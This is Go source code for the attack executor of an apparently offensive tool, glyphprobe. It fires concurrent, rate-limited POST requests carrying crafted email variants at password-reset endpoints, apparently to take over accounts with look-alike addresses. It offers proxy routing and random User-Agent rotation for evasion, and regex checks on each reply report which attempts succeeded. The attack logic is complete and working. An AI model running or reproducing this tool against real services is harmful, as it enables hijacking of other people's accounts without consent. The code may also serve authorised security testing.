package attack

import (
	"context"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"net/http"
	"net/url"
	"os"
	"strings"
	"sync"
	"time"

	"go.uber.org/zap"
	"golang.org/x/sync/errgroup"
	"golang.org/x/time/rate"

	"github.com/glyphprobe/glyphprobe/internal/domain"
)

// formFields are the field names a variant is submitted under. Targets
// differ in which one their reset form reads, so all three carry the same
// value.
var formFields = []string{"email", "username", "user_email"}

// HTTPExecutor implements ports.AttackExecutor: a bounded-concurrency,
// rate-paced POST campaign with regex response classification.
type HTTPExecutor struct {
	baseURL     string
	client      *http.Client
	limiter     *rate.Limiter
	threads     int
	randomAgent bool
	log         *zap.SugaredLogger
}

// Options configure an HTTPExecutor
type Options struct {
	BaseURL     string
	Proxy       string
	Timeout     time.Duration
	Delay       time.Duration
	Threads     int
	RandomAgent bool
}

// NewHTTPExecutor creates an attack executor for the given target
func NewHTTPExecutor(opts Options, log *zap.SugaredLogger) (*HTTPExecutor, error) {
	transport := http.DefaultTransport.(*http.Transport).Clone()
	if opts.Proxy != "" {
		proxyURL, err := url.Parse(opts.Proxy)
		if err != nil {
			return nil, fmt.Errorf("invalid proxy URL: %w", err)
		}
		transport.Proxy = http.ProxyURL(proxyURL)
	}

	limit := rate.Inf
	if opts.Delay > 0 {
		limit = rate.Every(opts.Delay)
	}

	return &HTTPExecutor{
		baseURL: strings.TrimRight(opts.BaseURL, "/"),
		client: &http.Client{
			Transport: transport,
			Timeout:   opts.Timeout,
		},
		limiter:     rate.NewLimiter(limit, 1),
		threads:     opts.Threads,
		randomAgent: opts.RandomAgent,
		log:         log,
	}, nil
}

// Execute runs every variant against every endpoint. Transport-level
// failures other than timeouts are dropped (logged only); timeouts produce
// a result with a zero status code so the report shows them.
func (e *HTTPExecutor) Execute(ctx context.Context, variants []domain.EmailVariant, endpoints []string) ([]domain.AttackResult, error) {
	total := len(variants) * len(endpoints)
	e.log.Infow("starting attack campaign",
		"variants", len(variants),
		"endpoints", len(endpoints),
		"total_attacks", total,
		"threads", e.threads)

	var (
		mu      sync.Mutex
		results = make([]domain.AttackResult, 0, total)
	)

	g, ctx := errgroup.WithContext(ctx)
	g.SetLimit(e.threads)
	for _, variant := range variants {
		for _, endpoint := range endpoints {
			variant, endpoint := variant, endpoint
			g.Go(func() error {
				if err := e.limiter.Wait(ctx); err != nil {
					return err
				}
				result := e.attack(ctx, variant, endpoint)
				if result != nil {
					mu.Lock()
					results = append(results, *result)
					mu.Unlock()
				}
				return nil
			})
		}
	}
	if err := g.Wait(); err != nil {
		return results, fmt.Errorf("attack campaign aborted: %w", err)
	}

	succeeded := 0
	for _, r := range results {
		if r.Success {
			succeeded++
		}
	}
	e.log.Infow("attack campaign complete",
		"completed", len(results),
		"successful", succeeded)
	return results, nil
}

// attack submits one variant to one endpoint and classifies the response.
// A nil return means the attempt could not be completed at all.
func (e *HTTPExecutor) attack(ctx context.Context, variant domain.EmailVariant, endpoint string) *domain.AttackResult {
	target := endpoint
	if !strings.HasPrefix(endpoint, "http://") && !strings.HasPrefix(endpoint, "https://") {
		target = e.baseURL + "/" + strings.TrimLeft(endpoint, "/")
	}

	form := url.Values{}
	for _, field := range formFields {
		form.Set(field, variant.Variant)
	}

	start := time.Now()
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, target, strings.NewReader(form.Encode()))
	if err != nil {
		e.log.Debugw("request build failed", "endpoint", target, "error", err)
		return nil
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if e.randomAgent {
		req.Header.Set("User-Agent", userAgents[rand.Intn(len(userAgents))])
	}

	resp, err := e.client.Do(req)
	if err != nil {
		elapsed := time.Since(start)
		if isTimeout(err) {
			return &domain.AttackResult{
				Timestamp:    time.Now(),
				TargetURL:    target,
				Variant:      variant.Variant,
				Technique:    variant.Technique,
				ResponseTime: elapsed,
				Indicators:   []string{},
				Error:        "timeout",
			}
		}
		e.log.Debugw("attack failed", "endpoint", target, "error", err)
		return nil
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	if err != nil {
		e.log.Debugw("response read failed", "endpoint", target, "error", err)
		return nil
	}
	elapsed := time.Since(start)

	success, indicators := classify(string(body))
	if success {
		e.log.Infow("success indicator matched",
			"variant", variant.Variant,
			"endpoint", target)
	}

	return &domain.AttackResult{
		Timestamp:    time.Now(),
		TargetURL:    target,
		Variant:      variant.Variant,
		Technique:    variant.Technique,
		StatusCode:   resp.StatusCode,
		ResponseTime: elapsed,
		Success:      success,
		Indicators:   indicators,
	}
}

// classify matches the lowercased body against the success and failure
// pattern lists. Success wins as soon as any success pattern matches,
// regardless of failure indicators also present.
func classify(body string) (bool, []string) {
	lower := strings.ToLower(body)
	indicators := []string{}
	success := false

	for _, pattern := range successPatterns {
		if pattern.MatchString(lower) {
			indicators = append(indicators, "success:"+pattern.String())
			success = true
		}
	}
	for _, pattern := range failurePatterns {
		if pattern.MatchString(lower) {
			indicators = append(indicators, "failure:"+pattern.String())
		}
	}
	return success, indicators
}

// Statistics aggregates a finished campaign
func (e *HTTPExecutor) Statistics(results []domain.AttackResult) domain.AttackStats {
	stats := domain.AttackStats{
		TotalAttacks: len(results),
		ByTechnique:  make(map[domain.Technique]domain.TechniqueOutcome),
	}
	if len(results) == 0 {
		return stats
	}

	variants := make(map[string]struct{})
	var totalTime time.Duration

	for _, r := range results {
		totalTime += r.ResponseTime
		variants[r.Variant] = struct{}{}

		outcome := stats.ByTechnique[r.Technique]
		outcome.Total++
		if r.Success {
			stats.Successful++
			outcome.Success++
		}
		stats.ByTechnique[r.Technique] = outcome
	}

	stats.Failed = stats.TotalAttacks - stats.Successful
	stats.SuccessRate = float64(stats.Successful) / float64(stats.TotalAttacks) * 100
	stats.AvgResponseTime = totalTime / time.Duration(stats.TotalAttacks)
	stats.TotalDuration = totalTime
	stats.TechniquesTested = len(stats.ByTechnique)
	stats.UniqueVariants = len(variants)
	return stats
}

func isTimeout(err error) bool {
	var netErr interface{ Timeout() bool }
	if errors.As(err, &netErr) && netErr.Timeout() {
		return true
	}
	return errors.Is(err, os.ErrDeadlineExceeded) || errors.Is(err, context.DeadlineExceeded)
}
